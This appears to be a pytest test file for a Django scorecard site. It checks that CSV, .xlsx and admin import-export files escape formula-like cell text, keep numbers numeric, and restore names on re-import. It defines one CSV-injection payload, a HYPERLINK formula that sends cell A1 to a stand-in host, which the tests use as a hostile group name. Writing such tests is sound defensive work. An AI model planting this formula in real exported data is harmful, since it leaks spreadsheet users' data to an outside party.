"""Exports never carry a live formula: a group named "=HYPERLINK(...)" is text in the CSV, the .xlsx and the
admin's import-export files, numbers stay numbers, and a re-import gives the name back unchanged."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from indicators.dashboards.exports import league_table_csv, league_table_xlsx
from indicators.dashboards.selectors import league_table_get
from indicators.imports.services import scores_import
from indicators.models import IndicatorGroup
from indicators.services import period_get_or_create
from scorecard_site.spreadsheets import TRIGGERS, cell_text, cell_text_restore, is_formula_like
from units.models import AdministrativeUnit
from units.resources import AdministrativeUnitResource

EVIL = '=HYPERLINK("http://example.org/?x="&A1,"Bấm vào đây")'


@given(st.text(max_size=40))
def test_an_escaped_cell_never_starts_a_formula_and_restores_exactly(text):
    escaped = cell_text(text)
    assert not is_formula_like(escaped)
    assert cell_text_restore(escaped) == text


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2))
def test_numbers_as_text_stay_numbers(number):
    assert cell_text(str(number)) == str(number)


@pytest.mark.parametrize("start", TRIGGERS)
def test_every_trigger_is_escaped(start):
    assert cell_text(f"{start}1+1 xã")[0] == "'"


@pytest.fixture
def january_table(lap_vo, qd766, seed_file):
    period = period_get_or_create(key="2024-01")
    scores_import(path=seed_file("seed000_lapvo_2024-01.tsv"), scheme=qd766, period=period, parent=lap_vo)
    IndicatorGroup.objects.filter(scheme=qd766, code="TDGQ").update(short_name=EVIL)  # an admin-edited text
    return league_table_get(scheme=qd766, period=period, parent=lap_vo)


@pytest.mark.django_db
def test_the_league_table_csv_escapes_a_formula_name(january_table):
    rows = list(csv.reader(io.StringIO(league_table_csv(january_table, title="=1+1").decode("utf-8-sig"))))
    assert rows[0] == ["'=1+1"]
    assert any(cell.startswith("'=HYPERLINK(") for cell in rows[1])
    assert not any(cell.startswith("=") for row in rows for cell in row)
    totals = [row[2] for row in rows[2:]]
    assert totals and all(float(total) > 0 for total in totals)  # numbers stay plain numbers


@pytest.mark.django_db
def test_the_league_table_xlsx_keeps_a_formula_name_as_text(january_table):
    sheet = openpyxl.load_workbook(io.BytesIO(league_table_xlsx(january_table, title="Kết quả"))).active
    cells = [cell for row in sheet.iter_rows(min_row=1) for cell in row if cell.value is not None]
    evil = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(isinstance(cell.value, float | int) for cell in cells)  # totals are still numbers


@pytest.mark.django_db
def test_units_export_escapes_and_reimport_restores(lap_vo):
    unit = AdministrativeUnit.objects.get(parent=lap_vo, code="30193")
    unit.name = "-Ấp Một"
    unit.save()
    exported = AdministrativeUnitResource().export(queryset=AdministrativeUnit.objects.filter(pk=unit.pk))
    assert exported.dict[0]["name"] == "'-Ấp Một"
    AdministrativeUnit.objects.filter(pk=unit.pk).update(name="Bình Thành")
    result = AdministrativeUnitResource().import_data(exported, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert AdministrativeUnit.objects.get(pk=unit.pk).name == "-Ấp Một"
